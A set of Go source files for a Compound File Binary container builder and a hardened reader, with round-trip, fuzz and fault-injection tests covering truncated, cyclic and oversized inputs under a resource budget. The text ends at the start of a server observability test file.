		difatStart = alloc(nDIFATSectors)
	}

	// 5. Build the FAT: sequential chains for every allocated range.
	fat := make([]uint32, nFATSectors*fatEntriesPerSector)
	for i := range fat {
		fat[i] = freeSect
	}
	chain := func(start uint32, n int) {
		for i := 0; i < n; i++ {
			if i == n-1 {
				fat[start+uint32(i)] = endOfChain
			} else {
				fat[start+uint32(i)] = start + uint32(i) + 1
			}
		}
	}
	chain(dirStart, nDirSectors)
	if nMiniFATSectors > 0 {
		chain(miniFATStart, nMiniFATSectors)
	}
	if nMiniStreamSectors > 0 {
		chain(miniStreamStart, nMiniStreamSectors)
	}
	for _, e := range entries {
		if e.objType == typeStream && len(e.node.data) >= miniStreamCutoff {
			chain(e.startSector, (len(e.node.data)+sectorSize-1)/sectorSize)
		}
	}
	for i := 0; i < nFATSectors; i++ {
		fat[fatStart+uint32(i)] = fatSect
	}
	for i := 0; i < nDIFATSectors; i++ {
		fat[difatStart+uint32(i)] = difSect
	}

	// 6. Serialize: header, then sectors in layout order.
	le := binary.LittleEndian
	out := make([]byte, 512+totalSectors*sectorSize)
	copy(out, Signature[:])
	le.PutUint16(out[26:], 3)      // major version
	le.PutUint16(out[24:], 0x3E)   // minor version
	le.PutUint16(out[28:], 0xFFFE) // byte order
	le.PutUint16(out[30:], 9)      // sector shift
	le.PutUint16(out[32:], 6)      // mini sector shift
	le.PutUint32(out[44:], uint32(nFATSectors))
	le.PutUint32(out[48:], dirStart)
	le.PutUint32(out[56:], miniStreamCutoff)
	le.PutUint32(out[60:], miniFATStart)
	le.PutUint32(out[64:], uint32(nMiniFATSectors))
	le.PutUint32(out[68:], difatStart)
	le.PutUint32(out[72:], uint32(nDIFATSectors))
	for i := 0; i < 109; i++ {
		v := uint32(freeSect)
		if i < nFATSectors {
			v = fatStart + uint32(i)
		}
		le.PutUint32(out[76+4*i:], v)
	}

	sectorOff := func(s uint32) int { return 512 + int(s)*sectorSize }

	// Directory sectors.
	dirBytes := make([]byte, nDirSectors*sectorSize)
	for i, e := range entries {
		off := i * 128
		field, nameLen, err := encodeName(e.node.name)
		if err != nil {
			return nil, err
		}
		copy(dirBytes[off:], field[:])
		le.PutUint16(dirBytes[off+64:], uint16(nameLen))
		dirBytes[off+66] = e.objType
		dirBytes[off+67] = 1 // black
		le.PutUint32(dirBytes[off+68:], e.left)
		le.PutUint32(dirBytes[off+72:], e.right)
		le.PutUint32(dirBytes[off+76:], e.child)
		copy(dirBytes[off+80:], e.node.clsid[:])
		le.PutUint32(dirBytes[off+116:], e.startSector)
		le.PutUint64(dirBytes[off+120:], e.size)
	}
	// Unused trailing entries must carry noStream sibling pointers.
	for i := len(entries); i < nDirSectors*entriesPerSector; i++ {
		off := i * 128
		le.PutUint32(dirBytes[off+68:], noStream)
		le.PutUint32(dirBytes[off+72:], noStream)
		le.PutUint32(dirBytes[off+76:], noStream)
	}
	copy(out[sectorOff(dirStart):], dirBytes)

	// MiniFAT sectors.
	if nMiniFATSectors > 0 {
		miniFATBytes := make([]byte, nMiniFATSectors*sectorSize)
		for i := 0; i < nMiniFATSectors*fatEntriesPerSector; i++ {
			v := uint32(freeSect)
			if i < len(miniFAT) {
				v = miniFAT[i]
			}
			le.PutUint32(miniFATBytes[4*i:], v)
		}
		copy(out[sectorOff(miniFATStart):], miniFATBytes)
	}

	// Mini stream sectors.
	if nMiniStreamSectors > 0 {
		copy(out[sectorOff(miniStreamStart):], miniStream)
	}

	// Large streams.
	for _, e := range entries {
		if e.objType == typeStream && len(e.node.data) >= miniStreamCutoff {
			copy(out[sectorOff(e.startSector):], e.node.data)
		}
	}

	// FAT sectors.
	for i, v := range fat {
		le.PutUint32(out[sectorOff(fatStart)+4*i:], v)
	}

	// DIFAT sectors: FAT sector numbers beyond the header's 109, chained
	// through each sector's final slot.
	for s := 0; s < nDIFATSectors; s++ {
		off := sectorOff(difatStart + uint32(s))
		for slot := 0; slot < difatEntriesPerSector; slot++ {
			idx := 109 + s*difatEntriesPerSector + slot
			v := uint32(freeSect)
			if idx < nFATSectors {
				v = fatStart + uint32(idx)
			}
			le.PutUint32(out[off+4*slot:], v)
		}
		next := uint32(endOfChain)
		if s+1 < nDIFATSectors {
			next = difatStart + uint32(s) + 1
		}
		le.PutUint32(out[off+4*difatEntriesPerSector:], next)
	}
	return out, nil
}

// sortedChildren returns the children of n in CFB directory order.
func sortedChildren(n *buildNode) []*buildNode {
	kids := make([]*buildNode, 0, len(n.children))
	for _, c := range n.children {
		kids = append(kids, c)
	}
	sort.Slice(kids, func(i, j int) bool { return nameLess(kids[i].name, kids[j].name) })
	return kids
}

// buildBST links the sorted children into a balanced sibling tree and
// returns the id of the subtree root (noStream for an empty list).
func buildBST(kids []*buildNode, ids map[*buildNode]uint32, entries []*writeEntry) uint32 {
	if len(kids) == 0 {
		return noStream
	}
	mid := len(kids) / 2
	root := ids[kids[mid]]
	entries[root].left = buildBST(kids[:mid], ids, entries)
	entries[root].right = buildBST(kids[mid+1:], ids, entries)
	return root
}
