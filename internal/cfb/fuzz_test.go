package cfb

import (
	"bytes"
	"testing"
)

// FuzzParse drives the reader with mutated container bytes; it must never
// panic and, when it succeeds on a mutant of a valid file, must return
// internally consistent storages.
func FuzzParse(f *testing.F) {
	b := NewBuilder()
	_ = b.AddStream("Macros/VBA/dir", []byte("dir"))
	_ = b.AddStream("Macros/VBA/Module1", bytes.Repeat([]byte{0xAB}, 300))
	_ = b.AddStream("WordDocument", bytes.Repeat([]byte("w"), 5000))
	seed, err := b.Bytes()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(seed)
	f.Add(seed[:600])
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		file, err := Parse(data)
		if err != nil {
			return
		}
		file.Walk(func(path string, s *Stream) {
			_ = len(s.Data)
		})
	})
}
