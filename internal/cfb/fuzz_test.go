package cfb_test

import (
	"bytes"
	"errors"
	"testing"

	"repro/internal/cfb"
	"repro/internal/faultinject"
	"repro/internal/hostile"
)

// fuzzSeeds assembles the corpus shared by both targets: a hand-built
// container plus the fault-injection matrix (truncations at structural
// boundaries, bit flips, a FAT cycle), so the fuzzer starts from inputs
// that already reach the deep parser states.
func fuzzSeeds(f *testing.F) {
	b := cfb.NewBuilder()
	_ = b.AddStream("Macros/VBA/dir", []byte("dir"))
	_ = b.AddStream("Macros/VBA/Module1", bytes.Repeat([]byte{0xAB}, 300))
	_ = b.AddStream("WordDocument", bytes.Repeat([]byte("w"), 5000))
	seed, err := b.Bytes()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(seed)
	f.Add(seed[:600])
	f.Add([]byte{})

	doc, err := faultinject.ValidDoc()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(doc)
	for _, c := range faultinject.Truncations(doc) {
		f.Add(c.Data)
	}
	for _, c := range faultinject.BitFlips(doc, 42, 8) {
		f.Add(c.Data)
	}
	if cyc, err := faultinject.FATCycle(doc); err == nil {
		f.Add(cyc.Data)
	}
}

// FuzzParse drives the reader with mutated container bytes; it must never
// panic and, when it succeeds on a mutant of a valid file, must return
// internally consistent storages.
func FuzzParse(f *testing.F) {
	fuzzSeeds(f)
	f.Fuzz(func(t *testing.T, data []byte) {
		file, err := cfb.Parse(data)
		if err != nil {
			return
		}
		file.Walk(func(path string, s *cfb.Stream) {
			_ = len(s.Data)
		})
	})
}

// FuzzParseBudget drives the budgeted walker under a deliberately small
// budget: no panic, and every rejection must carry a typed taxonomy error
// (a budget breach that surfaces as untyped text is a bug).
func FuzzParseBudget(f *testing.F) {
	fuzzSeeds(f)
	limits := hostile.Limits{
		MaxDecompressedBytes: 1 << 20,
		MaxDirEntries:        256,
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		file, err := cfb.ParseBudget(data, hostile.NewBudget(limits))
		if err != nil {
			if errors.Is(err, hostile.ErrLimitExceeded) && hostile.LimitName(err) == "" {
				t.Fatalf("limit breach without limit name: %v", err)
			}
			return
		}
		total := 0
		file.Walk(func(path string, s *cfb.Stream) {
			total += len(s.Data)
		})
		if int64(total) > limits.MaxDecompressedBytes+int64(len(data)) {
			t.Fatalf("walker materialized %d bytes under a %d budget", total, limits.MaxDecompressedBytes)
		}
	})
}
