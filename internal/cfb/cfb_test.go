package cfb

import (
	"bytes"
	"fmt"
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

func buildAndParse(t *testing.T, streams map[string][]byte) *File {
	t.Helper()
	b := NewBuilder()
	for path, data := range streams {
		if err := b.AddStream(path, data); err != nil {
			t.Fatalf("AddStream(%q): %v", path, err)
		}
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatalf("Bytes: %v", err)
	}
	f, err := Parse(raw)
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	return f
}

func TestRoundTripSmallStream(t *testing.T) {
	f := buildAndParse(t, map[string][]byte{"hello": []byte("world")})
	got, err := f.ReadStream("hello")
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "world" {
		t.Errorf("stream = %q", got)
	}
}

func TestRoundTripNestedStorages(t *testing.T) {
	streams := map[string][]byte{
		"Macros/VBA/dir":          []byte("dir-data"),
		"Macros/VBA/Module1":      bytes.Repeat([]byte{0xAB}, 100),
		"Macros/VBA/_VBA_PROJECT": {1, 2, 3},
		"WordDocument":            bytes.Repeat([]byte("doc"), 2000), // > 4096: large stream
		"\x05SummaryInformation":  []byte("summary"),
	}
	f := buildAndParse(t, streams)
	for path, want := range streams {
		got, err := f.ReadStream(path)
		if err != nil {
			t.Errorf("ReadStream(%q): %v", path, err)
			continue
		}
		if !bytes.Equal(got, want) {
			t.Errorf("ReadStream(%q) = %d bytes, want %d", path, len(got), len(want))
		}
	}
}

func TestRoundTripEmptyStream(t *testing.T) {
	f := buildAndParse(t, map[string][]byte{"empty": nil})
	got, err := f.ReadStream("empty")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 0 {
		t.Errorf("empty stream = %d bytes", len(got))
	}
}

func TestRoundTripExactSectorBoundaries(t *testing.T) {
	for _, n := range []int{63, 64, 65, 512, 4095, 4096, 4097, 8192, 10000} {
		data := make([]byte, n)
		for i := range data {
			data[i] = byte(i)
		}
		f := buildAndParse(t, map[string][]byte{"s": data})
		got, err := f.ReadStream("s")
		if err != nil {
			t.Fatalf("n=%d: %v", n, err)
		}
		if !bytes.Equal(got, data) {
			t.Errorf("n=%d: data mismatch", n)
		}
	}
}

func TestRoundTripManyStreams(t *testing.T) {
	streams := map[string][]byte{}
	rng := rand.New(rand.NewSource(7))
	for i := 0; i < 50; i++ {
		data := make([]byte, rng.Intn(9000))
		rng.Read(data)
		streams[fmt.Sprintf("dir%d/stream%d", i%5, i)] = data
	}
	f := buildAndParse(t, streams)
	for path, want := range streams {
		got, err := f.ReadStream(path)
		if err != nil {
			t.Fatalf("ReadStream(%q): %v", path, err)
		}
		if !bytes.Equal(got, want) {
			t.Errorf("stream %q mismatch", path)
		}
	}
}

func TestWalkVisitsAllStreams(t *testing.T) {
	f := buildAndParse(t, map[string][]byte{
		"a":     {1},
		"d/b":   {2},
		"d/e/c": {3},
	})
	seen := map[string]bool{}
	f.Walk(func(path string, s *Stream) { seen[path] = true })
	for _, want := range []string{"a", "d/b", "d/e/c"} {
		if !seen[want] {
			t.Errorf("Walk missed %q (saw %v)", want, seen)
		}
	}
}

func TestCaseInsensitiveLookup(t *testing.T) {
	f := buildAndParse(t, map[string][]byte{"Macros/VBA/Dir": []byte("x")})
	if _, err := f.ReadStream("macros/vba/dir"); err != nil {
		t.Errorf("case-insensitive lookup failed: %v", err)
	}
}

func TestParseRejectsGarbage(t *testing.T) {
	if _, err := Parse([]byte("not a compound file")); err == nil {
		t.Error("Parse accepted short garbage")
	}
	long := make([]byte, 1024)
	if _, err := Parse(long); err == nil {
		t.Error("Parse accepted zero-filled data")
	}
}

func TestParseRejectsTruncated(t *testing.T) {
	b := NewBuilder()
	if err := b.AddStream("s", bytes.Repeat([]byte{1}, 5000)); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Parse(raw[:len(raw)/2]); err == nil {
		t.Error("Parse accepted truncated file")
	}
}

func TestParseRejectsFATCycle(t *testing.T) {
	b := NewBuilder()
	if err := b.AddStream("s", bytes.Repeat([]byte{1}, 5000)); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	_ = f
	// Corrupt: make every FAT entry point at sector 0 to form cycles.
	// FAT sectors are last; find them via the header DIFAT entry 0.
	fatSector := uint32(raw[76]) | uint32(raw[77])<<8 | uint32(raw[78])<<16 | uint32(raw[79])<<24
	off := 512 + int(fatSector)*512
	for i := 0; i < 512; i += 4 {
		raw[off+i] = 0
		raw[off+i+1] = 0
		raw[off+i+2] = 0
		raw[off+i+3] = 0
	}
	if _, err := Parse(raw); err == nil {
		t.Error("Parse accepted FAT cycle")
	}
}

func TestBuilderRejectsLongNames(t *testing.T) {
	b := NewBuilder()
	long := strings.Repeat("x", 40)
	if err := b.AddStream(long, nil); err == nil {
		t.Error("AddStream accepted 40-char name")
	}
}

func TestBuilderStreamStorageConflicts(t *testing.T) {
	b := NewBuilder()
	if err := b.AddStream("a/b", []byte("1")); err != nil {
		t.Fatal(err)
	}
	if err := b.AddStream("a", []byte("2")); err == nil {
		t.Error("stream over existing storage accepted")
	}
	if err := b.AddStream("a/b/c", []byte("3")); err == nil {
		t.Error("storage over existing stream accepted")
	}
}

func TestBuilderReplaceStream(t *testing.T) {
	b := NewBuilder()
	if err := b.AddStream("s", []byte("old")); err != nil {
		t.Fatal(err)
	}
	if err := b.AddStream("s", []byte("new")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := f.ReadStream("s")
	if string(got) != "new" {
		t.Errorf("stream = %q, want new", got)
	}
}

func TestSetCLSID(t *testing.T) {
	b := NewBuilder()
	clsid := [16]byte{0x01, 0x02, 0x03}
	if err := b.AddStream("Macros/VBA/dir", []byte("x")); err != nil {
		t.Fatal(err)
	}
	if err := b.SetCLSID("Macros", clsid); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	st := f.Root.Storage("Macros")
	if st == nil {
		t.Fatal("Macros storage missing")
	}
	if st.CLSID != clsid {
		t.Errorf("CLSID = %v", st.CLSID)
	}
}

func TestReadStreamErrors(t *testing.T) {
	f := buildAndParse(t, map[string][]byte{"a/b": {1}})
	for _, path := range []string{"nope", "a/nope", "nope/b", "a/b/c"} {
		if _, err := f.ReadStream(path); err == nil {
			t.Errorf("ReadStream(%q) succeeded", path)
		}
	}
}

func TestNameLessOrdering(t *testing.T) {
	// Shorter names sort first regardless of content; ties by uppercase.
	cases := []struct {
		a, b string
		want bool
	}{
		{"zz", "aaa", true},   // shorter first
		{"aaa", "zz", false},  // longer second
		{"abc", "ABD", true},  // case-insensitive compare
		{"ABD", "abc", false}, //
		{"a", "a", false},     // equal
	}
	for _, c := range cases {
		if got := nameLess(c.a, c.b); got != c.want {
			t.Errorf("nameLess(%q, %q) = %v, want %v", c.a, c.b, got, c.want)
		}
	}
}

func TestRoundTripProperty(t *testing.T) {
	// Property: any set of (name, payload) pairs survives a build/parse
	// round trip.
	type spec struct {
		Names []string
		Sizes []uint16
	}
	f := func(s spec) bool {
		b := NewBuilder()
		want := map[string][]byte{}
		rng := rand.New(rand.NewSource(42))
		for i, raw := range s.Names {
			name := sanitizeName(raw, i)
			size := 0
			if i < len(s.Sizes) {
				size = int(s.Sizes[i]) % 9001
			}
			data := make([]byte, size)
			rng.Read(data)
			if err := b.AddStream(name, data); err != nil {
				return false
			}
			want[name] = data
		}
		out, err := b.Bytes()
		if err != nil {
			return false
		}
		file, err := Parse(out)
		if err != nil {
			return false
		}
		for name, data := range want {
			got, err := file.ReadStream(name)
			if err != nil || !bytes.Equal(got, data) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
		t.Error(err)
	}
}

// sanitizeName maps arbitrary fuzz strings to valid unique CFB names.
func sanitizeName(raw string, i int) string {
	var sb strings.Builder
	for _, r := range raw {
		if r > 0x20 && r < 0x7F && r != '/' && r != '\\' && r != ':' && r != '!' {
			sb.WriteRune(r)
		}
		if sb.Len() >= 20 {
			break
		}
	}
	return fmt.Sprintf("s%d_%s", i, sb.String())
}

func BenchmarkBuild(b *testing.B) {
	data := bytes.Repeat([]byte("vba"), 3000)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		bd := NewBuilder()
		_ = bd.AddStream("Macros/VBA/dir", data[:500])
		_ = bd.AddStream("Macros/VBA/Module1", data)
		_ = bd.AddStream("WordDocument", data)
		if _, err := bd.Bytes(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkParse(b *testing.B) {
	bd := NewBuilder()
	data := bytes.Repeat([]byte("vba"), 3000)
	_ = bd.AddStream("Macros/VBA/dir", data[:500])
	_ = bd.AddStream("Macros/VBA/Module1", data)
	_ = bd.AddStream("WordDocument", data)
	raw, err := bd.Bytes()
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(raw)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Parse(raw); err != nil {
			b.Fatal(err)
		}
	}
}

func TestRoundTripLargeFileWithDIFAT(t *testing.T) {
	// > 109 FAT sectors (~7 MB of payload) forces DIFAT sector emission.
	if testing.Short() {
		t.Skip("large-file round trip")
	}
	b := NewBuilder()
	big := make([]byte, 10<<20)
	for i := range big {
		big[i] = byte(i * 2654435761)
	}
	if err := b.AddStream("big", big); err != nil {
		t.Fatal(err)
	}
	if err := b.AddStream("dir/small", []byte("alongside")); err != nil {
		t.Fatal(err)
	}
	raw, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	f, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	got, err := f.ReadStream("big")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, big) {
		t.Fatal("large stream mismatch")
	}
	small, err := f.ReadStream("dir/small")
	if err != nil {
		t.Fatal(err)
	}
	if string(small) != "alongside" {
		t.Fatalf("small stream = %q", small)
	}
}
