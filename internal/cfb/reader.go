package cfb

import (
	"encoding/binary"
	"fmt"

	"repro/internal/hostile"
)

// Parse reads a compound file from data and returns its storage tree,
// under the default resource budget (hostile.DefaultLimits).
//
// The parser is defensive: chain cycles, out-of-range sector numbers and
// truncated sectors return ErrCorrupt-wrapped errors instead of panicking,
// because the malicious corpus deliberately includes malformed files.
// Every ErrCorrupt error additionally wraps its hostile-taxonomy class
// (hostile.ErrTruncated, hostile.ErrCycle, hostile.ErrMalformed), so
// callers can classify failures with errors.Is without depending on
// message text.
func Parse(data []byte) (*File, error) {
	return ParseBudget(data, hostile.NewBudget(hostile.DefaultLimits()))
}

// ParseBudget is Parse with an explicit resource budget: chain reads charge
// decompressed-byte output, directory walks charge entry visits, and long
// loops honor the budget deadline. A nil budget disables the limits.
func ParseBudget(data []byte, bud *hostile.Budget) (*File, error) {
	if len(data) < 512 {
		return nil, fmt.Errorf("%w: file shorter than header (%w)", ErrNotCompoundFile, hostile.ErrTruncated)
	}
	for i, b := range Signature {
		if data[i] != b {
			return nil, fmt.Errorf("%w (%w)", ErrNotCompoundFile, hostile.ErrMalformed)
		}
	}
	le := binary.LittleEndian
	majorVersion := le.Uint16(data[26:])
	sectorShift := le.Uint16(data[30:])
	var sectorSize int
	switch {
	case majorVersion == 3 && sectorShift == 9:
		sectorSize = 512
	case majorVersion == 4 && sectorShift == 12:
		sectorSize = 4096
	default:
		return nil, fmt.Errorf("%w: unsupported version %d / sector shift %d (%w)",
			ErrCorrupt, majorVersion, sectorShift, hostile.ErrMalformed)
	}

	numFATSectors := le.Uint32(data[44:])
	firstDirSector := le.Uint32(data[48:])
	firstMiniFATSector := le.Uint32(data[60:])
	numMiniFATSectors := le.Uint32(data[64:])
	firstDIFATSector := le.Uint32(data[68:])
	numDIFATSectors := le.Uint32(data[72:])

	// Sector counts from the header bound allocations below; a corrupted
	// header must not drive them past what the file can actually hold.
	// This clamp is the allocation guard: every `make` below is sized from
	// counts already proven to fit the file.
	maxSectors := uint32(len(data)/sectorSize + 1)
	if numFATSectors > maxSectors || numMiniFATSectors > maxSectors || numDIFATSectors > maxSectors {
		return nil, fmt.Errorf("%w: header sector counts exceed file size (%w)", ErrCorrupt, hostile.ErrMalformed)
	}

	r := &reader{data: data, sectorSize: sectorSize, bud: bud}

	// DIFAT: 109 entries in the header, then a chain of DIFAT sectors.
	// numDIFATSectors is clamped above, so the capacity is bounded by the
	// file size; clamp again defensively so the relationship is local.
	difatCap := 109 + int(numDIFATSectors)*(sectorSize/4-1)
	if maxCap := len(data)/4 + 109; difatCap > maxCap {
		difatCap = maxCap
	}
	difat := make([]uint32, 0, difatCap)
	for i := 0; i < 109; i++ {
		difat = append(difat, le.Uint32(data[76+4*i:]))
	}
	sect := firstDIFATSector
	for i := uint32(0); i < numDIFATSectors && sect != endOfChain && sect != freeSect; i++ {
		if err := bud.CheckDeadline(); err != nil {
			return nil, err
		}
		body, err := r.sector(sect)
		if err != nil {
			return nil, fmt.Errorf("DIFAT sector %d: %w", sect, err)
		}
		n := sectorSize/4 - 1
		for j := 0; j < n; j++ {
			difat = append(difat, le.Uint32(body[4*j:]))
		}
		sect = le.Uint32(body[4*n:])
	}

	// FAT: concatenation of the sectors listed in the DIFAT. The capacity
	// is clamped by the maxSectors check above; never trust the header to
	// size an allocation beyond the file itself.
	fatCap := int(numFATSectors) * sectorSize / 4
	if maxCap := len(data) / 4; fatCap > maxCap {
		fatCap = maxCap
	}
	fat := make([]uint32, 0, fatCap)
	count := uint32(0)
	for _, fs := range difat {
		if fs == freeSect || count >= numFATSectors {
			continue
		}
		count++
		body, err := r.sector(fs)
		if err != nil {
			return nil, fmt.Errorf("FAT sector %d: %w", fs, err)
		}
		for j := 0; j < sectorSize/4; j++ {
			fat = append(fat, le.Uint32(body[4*j:]))
		}
	}
	r.fat = fat

	// MiniFAT.
	miniFATBytes, err := r.readChain(firstMiniFATSector, int(numMiniFATSectors)*sectorSize)
	if err != nil {
		return nil, fmt.Errorf("miniFAT: %w", err)
	}
	r.miniFAT = make([]uint32, len(miniFATBytes)/4)
	for i := range r.miniFAT {
		r.miniFAT[i] = le.Uint32(miniFATBytes[4*i:])
	}

	// Directory.
	dirBytes, err := r.readChain(firstDirSector, -1)
	if err != nil {
		return nil, fmt.Errorf("directory: %w", err)
	}
	entries := parseDirEntries(dirBytes)
	if len(entries) == 0 || entries[0].objType != typeRoot {
		return nil, fmt.Errorf("%w: missing root directory entry (%w)", ErrCorrupt, hostile.ErrMalformed)
	}

	// Mini stream: the root entry's chain in the regular FAT.
	r.miniStream, err = r.readChain(entries[0].startSector, clampStreamSize(entries[0].size, len(data)))
	if err != nil {
		return nil, fmt.Errorf("mini stream: %w", err)
	}

	root := &Storage{Name: entries[0].name, CLSID: entries[0].clsid}
	if err := r.buildTree(entries, entries[0].childID, root, make(map[uint32]bool)); err != nil {
		return nil, err
	}
	return &File{Root: root, SectorSize: sectorSize}, nil
}

// clampStreamSize converts an attacker-controlled 64-bit stream size to an
// int bounded by the file size: no stream can legitimately hold more bytes
// than its container, and the conversion must never go negative.
func clampStreamSize(size uint64, fileLen int) int {
	if size > uint64(fileLen) {
		return fileLen
	}
	return int(size)
}

type dirEntry struct {
	name        string
	objType     byte
	leftID      uint32
	rightID     uint32
	childID     uint32
	clsid       [16]byte
	startSector uint32
	size        uint64
}

func parseDirEntries(dir []byte) []dirEntry {
	le := binary.LittleEndian
	n := len(dir) / 128
	entries := make([]dirEntry, 0, n)
	for i := 0; i < n; i++ {
		e := dir[i*128 : (i+1)*128]
		nameLen := int(le.Uint16(e[64:]))
		d := dirEntry{
			name:        decodeName(e[:64], nameLen),
			objType:     e[66],
			leftID:      le.Uint32(e[68:]),
			rightID:     le.Uint32(e[72:]),
			childID:     le.Uint32(e[76:]),
			startSector: le.Uint32(e[116:]),
			size:        le.Uint64(e[120:]),
		}
		copy(d.clsid[:], e[80:96])
		entries = append(entries, d)
	}
	return entries
}

// buildTree walks the red-black sibling tree rooted at id and attaches the
// children to parent. visited guards against cycles in corrupt files; the
// budget bounds the total number of entries walked.
func (r *reader) buildTree(entries []dirEntry, id uint32, parent *Storage, visited map[uint32]bool) error {
	if id == noStream {
		return nil
	}
	if int(id) >= len(entries) {
		return fmt.Errorf("%w: directory id %d out of range (%w)", ErrCorrupt, id, hostile.ErrMalformed)
	}
	if visited[id] {
		return fmt.Errorf("%w: directory sibling cycle at id %d (%w)", ErrCorrupt, id, hostile.ErrCycle)
	}
	if err := r.bud.VisitDirEntry(); err != nil {
		return err
	}
	if err := r.bud.CheckDeadline(); err != nil {
		return err
	}
	visited[id] = true
	e := entries[id]
	if err := r.buildTree(entries, e.leftID, parent, visited); err != nil {
		return err
	}
	switch e.objType {
	case typeStorage:
		st := &Storage{Name: e.name, CLSID: e.clsid}
		parent.Storages = append(parent.Storages, st)
		if err := r.buildTree(entries, e.childID, st, visited); err != nil {
			return err
		}
	case typeStream:
		data, err := r.readStreamData(e)
		if err != nil {
			return fmt.Errorf("stream %q: %w", e.name, err)
		}
		parent.Streams = append(parent.Streams, &Stream{Name: e.name, Data: data})
	}
	return r.buildTree(entries, e.rightID, parent, visited)
}

func (r *reader) readStreamData(e dirEntry) ([]byte, error) {
	size := clampStreamSize(e.size, len(r.data))
	if e.size < miniStreamCutoff {
		return r.readMiniChain(e.startSector, size)
	}
	return r.readChain(e.startSector, size)
}

type reader struct {
	data       []byte
	sectorSize int
	fat        []uint32
	miniFAT    []uint32
	miniStream []byte
	bud        *hostile.Budget
}

// sector returns the body of regular sector n. Sector 0 begins immediately
// after the 512-byte header for v3; for v4 the header occupies a whole
// 4096-byte sector.
func (r *reader) sector(n uint32) ([]byte, error) {
	if n > maxRegSect {
		return nil, fmt.Errorf("%w: special sector number %#x used as data (%w)", ErrCorrupt, n, hostile.ErrMalformed)
	}
	start := (int(n) + 1) * r.sectorSize
	end := start + r.sectorSize
	if start < 0 || end > len(r.data) {
		return nil, fmt.Errorf("%w: sector %d beyond file end (%w)", ErrCorrupt, n, hostile.ErrTruncated)
	}
	return r.data[start:end], nil
}

// readChain follows a FAT chain starting at sect and returns up to size
// bytes (size < 0 means read the whole chain). Output is charged against
// the budget's decompressed-byte allowance, so a chain that materializes
// more than the budget allows fails as a bomb instead of exhausting memory.
func (r *reader) readChain(sect uint32, size int) ([]byte, error) {
	if sect == endOfChain || sect == freeSect || size == 0 {
		return nil, nil
	}
	allow := r.bud.OutputAllowance()
	var out []byte
	seen := make(map[uint32]bool)
	for sect != endOfChain {
		if seen[sect] {
			return nil, fmt.Errorf("%w: FAT chain cycle at sector %d (%w)", ErrCorrupt, sect, hostile.ErrCycle)
		}
		seen[sect] = true
		if err := r.bud.CheckDeadline(); err != nil {
			return nil, err
		}
		body, err := r.sector(sect)
		if err != nil {
			return nil, err
		}
		out = append(out, body...)
		if int64(len(out)) > allow {
			return nil, r.bud.BombError(int64(len(out)))
		}
		if size >= 0 && len(out) >= size {
			out = out[:size]
			break
		}
		if int(sect) >= len(r.fat) {
			return nil, fmt.Errorf("%w: sector %d not covered by FAT (%w)", ErrCorrupt, sect, hostile.ErrTruncated)
		}
		sect = r.fat[sect]
	}
	if size >= 0 && len(out) < size {
		return nil, fmt.Errorf("%w: chain shorter (%d) than stream size (%d) (%w)",
			ErrCorrupt, len(out), size, hostile.ErrTruncated)
	}
	if err := r.bud.GrowOutput(int64(len(out))); err != nil {
		return nil, err
	}
	return out, nil
}

// readMiniChain follows a miniFAT chain through the mini stream.
func (r *reader) readMiniChain(sect uint32, size int) ([]byte, error) {
	if sect == endOfChain || sect == freeSect || size == 0 {
		return nil, nil
	}
	allow := r.bud.OutputAllowance()
	var out []byte
	seen := make(map[uint32]bool)
	for sect != endOfChain {
		if seen[sect] {
			return nil, fmt.Errorf("%w: miniFAT chain cycle at sector %d (%w)", ErrCorrupt, sect, hostile.ErrCycle)
		}
		seen[sect] = true
		if err := r.bud.CheckDeadline(); err != nil {
			return nil, err
		}
		start := int(sect) * miniSectorSize
		end := start + miniSectorSize
		if start < 0 || end > len(r.miniStream) {
			return nil, fmt.Errorf("%w: mini sector %d beyond mini stream (%w)", ErrCorrupt, sect, hostile.ErrTruncated)
		}
		out = append(out, r.miniStream[start:end]...)
		if int64(len(out)) > allow {
			return nil, r.bud.BombError(int64(len(out)))
		}
		if len(out) >= size {
			out = out[:size]
			if err := r.bud.GrowOutput(int64(len(out))); err != nil {
				return nil, err
			}
			return out, nil
		}
		if int(sect) >= len(r.miniFAT) {
			return nil, fmt.Errorf("%w: mini sector %d not covered by miniFAT (%w)", ErrCorrupt, sect, hostile.ErrTruncated)
		}
		sect = r.miniFAT[sect]
	}
	return nil, fmt.Errorf("%w: mini chain shorter (%d) than stream size (%d) (%w)",
		ErrCorrupt, len(out), size, hostile.ErrTruncated)
}
