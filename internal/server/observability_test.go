package server

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"repro/internal/telemetry"
)

const callerTraceparent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
const callerTraceID = "4bf92f3577b34da6a3ce929d0e0e4736"

// TestTraceparentMiddleware checks the W3C trace-context contract on the
